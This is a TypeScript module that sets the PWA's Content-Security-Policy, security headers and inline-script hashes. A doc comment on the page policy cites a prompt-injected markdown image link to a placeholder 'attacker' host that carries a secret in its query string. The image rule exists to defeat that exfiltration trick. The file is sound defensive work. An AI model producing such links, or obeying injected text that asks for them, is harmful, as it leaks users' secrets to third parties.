import { createHash } from "node:crypto";

// The security headers of the PWA, the same whoever serves it: the API (`npm start`, api/src/server/
// pwa-static.ts) or the Nginx image (pwa/render-nginx-conf.mjs fills pwa/nginx.conf.template from here).
// This file imports nothing of the API, so the PWA's image build can use it as it is.

export interface PwaPolicyOptions {
  /** Where the app sends its requests: "'self'" when the API serves it, else the API's origin. */
  apiOrigin: string;
  /** index.html's inline scripts, by their SHA-256 (see inlineScriptHashes). */
  scriptHashes: string[];
}

/**
 * The page may run only its own scripts, connect only to the API, and show only its own images: no
 * remote image in an answer is fetched (a prompt-injected `![x](https://attacker/?secret)` reaches no
 * one); it may not be framed. Inline styles are allowed (Solid and highlight.js set style attributes).
 */
export function pageContentSecurityPolicy({ apiOrigin, scriptHashes }: PwaPolicyOptions): string {
  return [
    "default-src 'self'",
    `script-src 'self'${scriptHashes.map((hash) => ` ${hash}`).join("")}`,
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "font-src 'self' data:",
    `connect-src ${apiOrigin}`,
    "manifest-src 'self'",
    "worker-src 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ].join("; ");
}

/** The service worker fetches the app's own files to precache them, so it may connect to this origin too. */
export function workerContentSecurityPolicy({ apiOrigin }: Pick<PwaPolicyOptions, "apiOrigin">): string {
  return `default-src 'self'; connect-src 'self'${apiOrigin === "'self'" ? "" : ` ${apiOrigin}`}; object-src 'none'`;
}

/** Headers every response of the PWA carries, besides its CSP. */
export const PWA_SECURITY_HEADERS: Readonly<Record<string, string>> = {
  "X-Content-Type-Options": "nosniff",
  "Referrer-Policy": "strict-origin-when-cross-origin",
  "X-Frame-Options": "DENY",
  "Permissions-Policy": "camera=(), microphone=(), geolocation=()",
};

/** Sent only over https (a browser would otherwise pin a site that has no certificate). */
export const STRICT_TRANSPORT_SECURITY = "max-age=31536000; includeSubDomains";

/** The CSP hashes of a page's inline scripts (`'sha256-…'`). */
export function inlineScriptHashes(html: string): string[] {
  return [...html.matchAll(/<script\b(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)]
    .map((match) => match[1] ?? "")
    .filter((body) => body.trim())
    .map((body) => `'sha256-${createHash("sha256").update(body).digest("base64")}'`);
}
